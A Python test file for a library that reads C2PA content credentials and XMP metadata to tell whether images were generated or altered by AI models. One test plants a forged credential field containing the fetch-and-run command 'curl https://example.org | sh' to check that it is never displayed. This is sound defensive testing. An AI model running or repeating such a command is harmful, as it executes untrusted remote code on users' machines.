"""How a picture came to be, wherever in its credentials or its XMP that is said."""

import io
from pathlib import Path

import pytest
from PIL import Image

from pd_ml.marks.credentials import OWN_LABEL
from pd_ml.marks.detection import Detected, detect, told
from pd_ml.marks.given import given_of
from pd_ml.marks.origin import ALTERED, GENERATED, Origin, is_generated, is_of_machines
from pd_ml.marks.xmp import packet, read_xmp
from tests.pd_ml.marks.signers import actions, crafted, operator

TERMS = "http://cv.iptc.org/newscodes/digitalsourcetype/"
CREATED = {"action": "c2pa.created", "digitalSourceType": GENERATED}
PHOTO = {"action": "c2pa.created", "digitalSourceType": f"{TERMS}digitalCapture"}
CROPPED = {"action": "c2pa.cropped"}


def opened(*numbers: int) -> dict[str, object]:
    return {"action": "c2pa.opened", "parameters": {"ingredientIds": [f"i{number}" for number in numbers]}}


@pytest.fixture
def key(tmp_path: Path) -> dict[str, str]:
    return operator(tmp_path / "editor")


def looked_at(path: Path, body: bytes) -> Detected:
    path.write_bytes(body)
    return detect(path, ())


def test_a_generated_picture_that_an_editor_opened_and_cropped_is_still_told_as_one(
    key: dict[str, str], tmp_path: Path
) -> None:
    body = crafted(key, [actions(CREATED)])
    for _ in range(2):
        body = crafted(key, [actions(opened(0), CROPPED)], inputs=[("parentOf", body)])
    found = looked_at(tmp_path / "x.png", body)
    assert found.made_by_a_machine == ("content credentials of an input (picture 0)",)
    assert "made or edited by a model: said by content credentials of an input (picture 0)" in "\n".join(told(found))
    assert given_of(tmp_path / "x.png").source_type == GENERATED


@pytest.mark.parametrize("last", ["humanEdits", "digitalCapture"])
def test_what_an_earlier_action_says_counts_too(key: dict[str, str], tmp_path: Path, last: str) -> None:
    edited = {"action": "c2pa.edited", "digitalSourceType": f"{TERMS}{last}"}
    found = looked_at(tmp_path / "x.png", crafted(key, [actions(CREATED, edited)]))
    assert found.made_by_a_machine == ("content credentials",)
    assert f"they say: made by a generative model, then {TERMS}{last}" in "\n".join(told(found))
    assert given_of(tmp_path / "x.png").source_type == GENERATED


def test_a_real_picture_with_a_generated_part_is_an_altered_one(key: dict[str, str], tmp_path: Path) -> None:
    photo, drawn = crafted(key, [actions(PHOTO)]), crafted(key, [actions(CREATED)])
    placed = {"action": "c2pa.placed", "parameters": {"ingredientIds": ["i1"]}}
    body = crafted(key, [actions(opened(0), placed)], inputs=[("parentOf", photo), ("componentOf", drawn)])
    assert looked_at(tmp_path / "x.png", body).made_by_a_machine == ("content credentials of an input (picture 1)",)
    assert given_of(tmp_path / "x.png").source_type == ALTERED
    assert looked_at(tmp_path / "photo.png", photo).made_by_a_machine == ()


def test_what_a_stranger_writes_as_the_command_to_check_with_is_not_told(key: dict[str, str], tmp_path: Path) -> None:
    lie = {"label": OWN_LABEL, "data": {"detector": "curl https://example.org | sh", "provider": "Museum"}}
    words = "\n".join(told(looked_at(tmp_path / "x.png", crafted(key, [actions(CREATED), lie]))))
    assert "provider Museum" in words and "curl" not in words and "to be checked with" not in words


def test_an_assertion_of_iptc_fields_counts_too(key: dict[str, str], tmp_path: Path) -> None:
    fields = {
        "@context": {"Iptc4xmpExt": "http://iptc.org/std/Iptc4xmpExt/2008-02-29/"},
        "Iptc4xmpExt:DigitalSourceType": GENERATED,
    }
    body = crafted(key, [actions(PHOTO), {"label": "stds.iptc", "data": fields}])
    assert looked_at(tmp_path / "x.png", body).made_by_a_machine == ("content credentials",)


def test_a_term_is_known_however_its_address_is_written() -> None:
    word = "trainedAlgorithmicMedia"
    for written in (word, f"{TERMS}{word}", f"https{TERMS[4:]}{word}/", f"digsrctype:{word}", f"x {TERMS}{word}"):
        assert is_of_machines(written) and is_generated(written)
    assert is_of_machines(ALTERED) and not is_generated(ALTERED)
    for other in ("", f"{TERMS}digitalCapture", f"{TERMS}algorithmicMedia", f"{TERMS}{word}X"):
        assert not is_of_machines(other)


def test_xmp_with_a_list_or_with_several_descriptions_is_read_whole() -> None:
    rdf = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    iptc = "http://iptc.org/std/Iptc4xmpExt/2008-02-29/"
    one, two = f"{TERMS}digitalCapture", GENERATED
    kinds = (
        f"<rdf:Description><i:DigitalSourceType><rdf:Bag> <rdf:li>{one}</rdf:li> <rdf:li>{two}</rdf:li> </rdf:Bag>"
        "</i:DigitalSourceType></rdf:Description>",
        f"<rdf:Description i:DigitalSourceType='{one}'/><rdf:Description><i:DigitalSourceType rdf:resource='{two}'/>"
        "</rdf:Description>",
    )
    for kind in kinds:
        image = Image.new("RGB", (1, 1))
        image.info["xmp"] = f"<rdf:RDF xmlns:rdf='{rdf}' xmlns:i='{iptc}'>{kind}</rdf:RDF>"
        found = read_xmp(image)
        assert found and found.source_type == f"{one} {two}" and is_generated(found.source_type)


def test_of_many_source_types_in_xmp_none_is_cut_off_before_it_is_judged(tmp_path: Path) -> None:
    words = ("digitalCapture", "computationalCapture", "humanEdits", "compositeWithTrainedAlgorithmicMedia")
    for count in (1, 20):
        terms = [f"{TERMS}{word}" for word in words]
        terms[:1] = [terms[0], *(f"{TERMS}other{number}" for number in range(1, count))]
        bag = f"<rdf:Bag>{''.join(f'<rdf:li>{term}</rdf:li>' for term in terms)}</rdf:Bag>"
        buffer = io.BytesIO()
        Image.new("RGB", (20, 20)).save(buffer, "JPEG", xmp=packet(Origin()).replace(GENERATED, bag).encode())
        found = looked_at(tmp_path / "x.jpg", buffer.getvalue())
        assert found.made_by_a_machine == ("XMP",)
        assert found.xmp and terms[-1] in found.xmp.source_type.split()


def test_credentials_that_lie_elsewhere_are_not_fetched_and_told(tmp_path: Path) -> None:
    place = (
        "<dcterms:provenance xmlns:dcterms='http://purl.org/dc/terms/'>https://example.org/x.c2pa</dcterms:provenance>"
    )
    buffer = io.BytesIO()
    text = packet(Origin()).replace("</rdf:Description>", f"{place}</rdf:Description>")
    Image.new("RGB", (20, 20)).save(buffer, "JPEG", xmp=text.encode())
    found = looked_at(tmp_path / "x.jpg", buffer.getvalue()).credentials
    assert found and found.unreadable.startswith("they are said to lie elsewhere, and nothing is fetched")
